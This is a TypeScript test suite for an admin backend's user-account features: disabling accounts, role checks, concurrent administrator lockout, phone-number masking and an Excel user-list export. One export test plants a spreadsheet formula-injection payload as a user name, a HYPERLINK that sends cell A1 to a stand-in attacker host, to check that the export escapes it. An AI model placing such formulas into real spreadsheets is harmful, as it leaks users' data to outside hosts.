import type { Readable } from 'node:stream';
import { inArray, sql } from 'drizzle-orm';
import excel from 'exceljs';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { REFUSED, startBackend, type Backend, type Who } from '../../../tests/backend';
import { catalogue } from '../../../src/services/catalogue';
import type {
  AuthExportUserListParams,
  AuthUpdateUserRolesParams,
} from '../../../src/services/catalogue/generated/types';
import { account, department } from '../../db/schema';
import { roleIdOf } from '../../seed/people/roles';
import { workFor } from '../../kernel/work/test-support/pool';
import type { FileAnswer } from '../../kernel/http/file-answer';
import type { Context } from '../../kernel/calls/handler';
import { referenceIn } from '../../kernel/session/masked-number';
import { sealer } from '../../kernel/session/seal';
import { lockAdmins } from './account.store';
import { handlers } from './account.handlers';
import { MESSAGES } from './access.messages';
import { company, type Company } from './test-support';
import { inLongSuite } from '../../../tests/runs';

let backend: Backend;
let staff: Company;
beforeAll(async () => {
  backend = await startBackend();
  staff = company(backend);
});
afterAll(() => backend.stop());
afterEach(() => staff.dissolve());

const update = (params: AuthUpdateUserRolesParams, as: Who | Record<string, string> = 'admin') =>
  backend.call('auth.updateUserRoles', params, as);

/** Sends requests that are all authorised before the first one may change anything. */
async function atOnce<T>(ask: () => Promise<T>[]): Promise<T[]> {
  return backend.db
    .transaction(async (tx) => {
      await lockAdmins(tx);
      const pending = ask();
      const waiting = sql`select count(*)::int as waiting from pg_locks where locktype = 'advisory' and not granted and database = (select oid from pg_database where datname = current_database())`;
      await expect
        .poll(async () => (await backend.db.execute<{ waiting: number }>(waiting)).rows[0]!.waiting)
        .toBe(pending.length);
      return pending;
    })
    .then((pending) => Promise.all(pending));
}

describe('enabling and disabling', () => {
  it('takes effect at the next request, which is refused with the reason', async () => {
    const id = await staff.hire('one', '内容运营');
    const headers = await backend.logIn(id);
    expect(await update({ userIds: [id], status: 'disabled' }, 'leader')).toMatchObject({ code: 0, data: { done: 1 } });
    expect(await backend.call('user.getUserInfo', {}, headers)).toMatchObject({ code: REFUSED.accountDisabled });
    expect(await update({ userIds: [id], status: 'enabled' }, 'leader')).toMatchObject({ code: 0 });
    expect(await backend.call('user.getUserInfo', {}, headers)).toMatchObject({ code: 0 });
    expect((await staff.read(id)).roleIds).toEqual([roleIdOf('内容运营')]);
  });
  it('can be combined with roles in one request, atomically', async () => {
    const id = await staff.hire('one', '内容运营');
    expect(await update({ userIds: [id], roleIds: [999], status: 'disabled' })).toMatchObject({
      code: REFUSED.invalid,
    });
    expect(await staff.read(id)).toMatchObject({ status: 'enabled' });
    expect(await update({ userIds: [id], roleIds: [roleIdOf('只读访客')], status: 'disabled' })).toMatchObject({
      code: 0,
    });
    expect(await staff.read(id)).toMatchObject({ status: 'disabled', roleIds: [roleIdOf('只读访客')] });
  });
  it('needs at least one change', async () => {
    expect(await update({ userIds: [backend.ids.viewer] })).toMatchObject({
      code: REFUSED.invalid,
      errors: [{ field: 'roleIds', message: MESSAGES.nothingToChange }],
    });
    expect(await update({ userIds: [backend.ids.viewer], status: 'gone' as never })).toMatchObject({
      code: REFUSED.invalid,
      errors: [{ field: 'status' }],
    });
    expect(await update({ userIds: [], status: 'disabled' })).toMatchObject({
      code: REFUSED.invalid,
      errors: [{ field: 'userIds' }],
    });
  });
  it('is refused for oneself, for administrators by leaders, and for other departments', async () => {
    const disable = (userId: number, as: Who) => update({ userIds: [userId], status: 'disabled' }, as);
    expect(await disable(backend.ids.leader, 'leader')).toMatchObject({
      code: REFUSED.invalid,
      msg: MESSAGES.notDisableOneself,
    });
    expect(await disable(backend.ids.admin, 'admin')).toMatchObject({
      code: REFUSED.invalid,
      msg: MESSAGES.notDisableOneself,
    });
    expect(await disable(backend.ids.admin, 'leader')).toMatchObject({
      code: REFUSED.forbidden,
      msg: MESSAGES.adminOnlyByAdmin,
    });
    expect(await disable(backend.ids.stranger, 'leader')).toMatchObject({ code: REFUSED.notFound });
    expect(await disable(backend.ids.homeless, 'leader')).toMatchObject({ code: REFUSED.notFound });
    expect(await disable(backend.ids.viewer, 'operator')).toMatchObject({ code: REFUSED.forbidden });
    expect(await disable(99_999, 'admin')).toMatchObject({ code: REFUSED.notFound });
  });
  it('leaves one administrator if two disable each other concurrently', async () => {
    const id = await staff.hire('second', '管理员', { adminLevel: 1 });
    const second = await backend.logIn(id);
    const answers = await atOnce(() => [
      update({ userIds: [backend.ids.admin], status: 'disabled' }, second),
      update({ userIds: [id], status: 'disabled' }, 'admin'),
    ]);
    expect(answers.map(({ code }) => code).toSorted((a, b) => a - b)).toEqual([0, REFUSED.invalid]);
    expect(answers.map(({ msg }) => msg)).toContain(MESSAGES.lastAdmin);
    await backend.db.update(account).set({ status: 'enabled' });
  });
});

describe('numbers in the list', () => {
  it('are masked with a cipher that refers to them; missing numbers have none', async () => {
    const id = await staff.hire('one', '内容运营');
    await staff.hire('two', '内容运营', { mobile: '' });
    const rows = (await backend.ask('auth.queryUserList', { keyword: 'o' }, 'leader')).list;
    const byName = (name: string) => rows.find((row) => row.loginName === name)!;
    const seal = await sealer(backend.db);
    expect(byName('one').mobile).toBe('139****5678');
    expect(referenceIn(seal, byName('one').mobileCipher)).toEqual({ of: 'account', id, field: 'mobile' });
    expect(byName('two')).toMatchObject({ mobile: '', mobileCipher: '' });
    expect(JSON.stringify(rows)).not.toContain('13900005678');
  });
});

describe('the export', () => {
  const { path } = catalogue.find(({ name }) => name === 'auth.exportUserList')!;

  async function download(params: AuthExportUserListParams, as: Who) {
    const headers = await backend.logIn(backend.ids[as]);
    const answer = await backend.app.inject({ method: 'POST', url: path, payload: params, headers });
    return {
      answer,
      sheet: String(answer.headers['content-type']).includes('spreadsheetml') ? await sheetOf(answer.rawPayload) : null,
    };
  }
  async function sheetOf(bytes: Buffer) {
    const book = new excel.Workbook();
    await book.xlsx.load(bytes as unknown as excel.Buffer);
    return book.worksheets[0]!;
  }
  async function rowsOf(params: AuthExportUserListParams, as: Who = 'admin') {
    const { sheet } = await download(params, as);
    const [titles, ...rows] = Array.from({ length: sheet!.rowCount }, (_, index) =>
      (sheet!.getRow(index + 1).values as excel.CellValue[]).slice(1),
    );
    return { titles, rows };
  }
  const namesOf = async (params: AuthExportUserListParams, as?: Who) =>
    (await rowsOf(params, as)).rows.map((row) => row[1]);

  it("is 用户列表.xlsx with the contract's headings and labels, numbers masked", async () => {
    const id = await staff.hire('export.one', '内容运营', {
      email: 'n@atelier.example',
      status: 'disabled',
      lastLoginTime: new Date('2026-06-02T00:00:00Z'),
      updateTime: new Date('2026-06-03T00:00:00Z'),
    });
    const { answer } = await download({ keyword: 'export.' }, 'leader');
    expect(answer.headers['content-disposition']).toBe(
      `attachment; filename*=UTF-8''${encodeURIComponent('用户列表.xlsx')}`,
    );
    const { titles, rows } = await rowsOf({ keyword: 'export.' }, 'leader');
    expect(titles).toEqual([
      '用户编号',
      '登录名',
      '姓名',
      '手机号',
      '邮箱',
      '部门',
      '角色',
      '状态',
      '管理级别',
      '最近登录',
      '创建时间',
      '更新时间',
    ]);
    const shanghai = (day: string) => new Date(`${day}T08:00:00.000Z`);
    expect(rows).toEqual([
      [
        id,
        'export.one',
        'export.one',
        '139****5678',
        'n@atelier.example',
        '内容运营中心',
        '内容运营',
        '停用',
        0,
        shanghai('2026-06-02'),
        shanghai('2026-06-01'),
        shanghai('2026-06-03'),
      ],
    ]);
  });
  it('has the rows of the list with the same filters, newest first, without other departments', async () => {
    const list = async (as: Who) => (await backend.ask('auth.queryUserList', {}, as)).list.map((row) => row.loginName);
    expect(await namesOf({}, 'admin')).toEqual(await list('admin'));
    expect(await namesOf({}, 'leader')).toEqual(await list('leader'));
    expect(await namesOf({}, 'leader')).not.toContain('stranger');
    expect(await namesOf({ departmentId: 2 }, 'leader')).toEqual([]);
    expect(await namesOf({ departmentId: 2 })).toEqual(['stranger']);
    expect(await namesOf({ roleId: roleIdOf('只读访客') })).toEqual(['viewer']);
    await staff.hire('newcomer', null);
    expect(await namesOf({ withoutRole: true })).toEqual(['newcomer']);
    expect(await namesOf({ withoutRole: false, roleId: roleIdOf('只读访客') })).toEqual(['viewer']);
  });
  it('of a selection contains the rows of it that the person may see', async () => {
    const { viewer, stranger } = backend.ids;
    expect(await namesOf({ userIds: [viewer, stranger] }, 'leader')).toEqual(['viewer']);
    expect((await namesOf({ userIds: [viewer, stranger] })).toSorted()).toEqual(['stranger', 'viewer']);
  });
  it('escapes names that look like formulas', async () => {
    const id = await staff.hire('formula', '内容运营', {
      userName: '=HYPERLINK("https://evil.example?"&A1,"x")',
      email: '@SUM(1+1)',
      mobile: '+447911123456',
    });
    const { sheet } = await download({ userIds: [id] }, 'admin');
    const cells = ['C2', 'D2', 'E2'].map((address) => sheet!.getCell(address));
    expect(
      cells.every(
        (cell) =>
          cell.type === excel.ValueType.String && cell.formula === undefined && String(cell.value).startsWith("'"),
      ),
    ).toBe(true);
    expect(cells[0]!.value).toBe('\'=HYPERLINK("https://evil.example?"&A1,"x")');
  });
  it('returns refusals as an envelope', async () => {
    for (const [as, code] of [
      ['operator', REFUSED.forbidden],
      ['viewer', REFUSED.forbidden],
    ] as const)
      expect((await download({}, as)).answer.json()).toMatchObject({ code, data: null });
    expect((await download({ pageNo: 1 } as never, 'admin')).answer.json()).toMatchObject({ code: REFUSED.invalid });
    expect((await download({ userIds: [] }, 'admin')).answer.json()).toMatchObject({
      code: REFUSED.invalid,
      errors: [{ field: 'userIds' }],
    });
  });

  describe.runIf(inLongSuite)('of many', () => {
    beforeAll(async () => {
      await backend.db.insert(department).values([
        { departmentId: 77, name: '部门' },
        { departmentId: 78, name: '大部门' },
      ]);
      // Twenty accounts per creation time, so that pages end between equal times.
      await backend.db.execute(sql`insert into account (login_name, user_name, department_id, create_time)
        select 'many' || n, md5(n::text), case when n <= 4000 then 77 else 78 end, now() - (n / 20) * interval '1 minute' from generate_series(1, 20000) n`);
    });
    afterAll(async () => {
      await backend.db.delete(account).where(inArray(account.departmentId, [77, 78]));
      await backend.db.delete(department).where(inArray(department.departmentId, [77, 78]));
    });

    it('contains each person once, also with equal creation times', async () => {
      const names = await namesOf({ departmentId: 77 });
      expect(names).toHaveLength(4_000);
      expect(new Set(names).size).toBe(4_000);
    });
    it('queries each page once', async () => {
      let selects = 0;
      const select = (...fields: Parameters<typeof backend.db.select>) => (
        (selects += 1),
        backend.db.select(...fields)
      );
      const db = Object.assign(Object.create(backend.db) as Backend['db'], { select });
      const answer = await handlers['auth.exportUserList']({}, {
        db,
        actor: { adminLevel: 1, departmentId: null },
        work: workFor(),
        now: () => new Date(),
      } as Context);
      const { body } = answer as FileAnswer & { body: Readable };
      let bytes = 0;
      for await (const chunk of body as AsyncIterable<Buffer>) bytes += chunk.length;
      // One query for keys and 41 pages; each of them has two selects.
      expect(selects).toBe(2 * (1 + 41));
      expect(bytes).toBeGreaterThan(500_000);
    });
  });
});
